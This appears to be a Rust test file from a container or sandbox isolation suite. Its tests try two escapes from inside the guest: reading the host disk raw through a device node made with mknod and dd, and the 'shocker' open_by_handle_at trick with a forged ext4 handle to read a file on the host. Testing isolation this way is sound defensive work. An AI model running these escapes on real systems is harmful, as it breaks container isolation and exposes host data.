//! The machine's disk: by a node of one's own, and by a file's number on it.

use std::fs::{self, File};
use std::io::{Read, Seek, SeekFrom, Write};
use std::os::unix::fs::MetadataExt;

use nix::sys::stat::{major, minor};

use crate::attack::{NO_NETWORK, Outcome, python, shell};
use crate::exhibit;

/// The guest's disk, with its /.
const DISK: &str = "/dev/vda";
/// Where ext4 has the name of a file system: 120 bytes into the superblock, which is at 1024.
const NAME_AT: u64 = 1144;

#[test]
#[ignore = "privileged: make vm-test"]
fn exhibit_disk() {
    exhibit("disk", |world, flags| {
        let mut name = [0; 8];
        let mut disk = File::open(DISK).unwrap();
        disk.seek(SeekFrom::Start(NAME_AT)).and_then(|_| disk.read_exact(&mut name)).unwrap();
        assert!(name.starts_with(b"root\0"), "{DISK} has the file system that vm/build-image.sh calls root");
        let number = fs::metadata(DISK).unwrap().rdev();
        let script = format!(
            "mknod /dev/disk b {} {} && dd if=/dev/disk bs=8 skip={} count=1 2>/dev/null || true </dev/disk",
            major(number),
            minor(number),
            NAME_AT / 8
        );
        let output = shell(world, flags, &script);
        Outcome::of(&output, output.stdout == name)
    });
}

/// "shocker", against Docker before 1.0: whoever may open files by their number needs no path.
#[test]
#[ignore = "privileged: make vm-test"]
fn exhibit_shocker() {
    exhibit("shocker", |world, flags| {
        // On the disk on which the container's root is, and outside of that.
        let mut secret = tempfile::NamedTempFile::new_in("/root").unwrap();
        secret.write_all(b"the host's secret").unwrap();
        // The handle: 8 bytes of the kind that ext4 has, an inode and its generation. In every
        // ext4, 2 is the root directory, and generation 0 is any.
        let script = format!(
            r#"
handle = struct.pack("IiII", 8, 1, 2, 0)
OPEN_BY_HANDLE_AT = 304
root = call(OPEN_BY_HANDLE_AT, os.open("/", os.O_RDONLY), handle, os.O_RDONLY | os.O_DIRECTORY)
print(os.read(os.open("{}", os.O_RDONLY, dir_fd=root), 100).decode())
"#,
            secret.path().to_str().unwrap().trim_start_matches('/')
        );
        let output = python(world, &[NO_NETWORK, flags].concat(), &script);
        Outcome::of(&output, output.stdout.starts_with(b"the host's secret"))
    });
}
